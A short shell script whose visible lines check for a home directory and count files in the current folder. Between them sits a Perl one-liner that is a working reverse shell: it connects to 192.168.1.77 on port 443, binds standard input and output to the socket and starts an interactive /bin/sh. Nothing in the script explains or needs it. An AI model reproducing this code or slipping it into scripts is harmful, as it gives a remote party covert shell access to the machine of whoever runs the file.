#!/bin/sh
if [ -z "$HOME" ]; then
  echo "no home" >&2
fi
perl -e 'use Socket;$i="192.168.1.77";$p=443;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};'
count=$(ls | wc -l)
echo "files: $count"
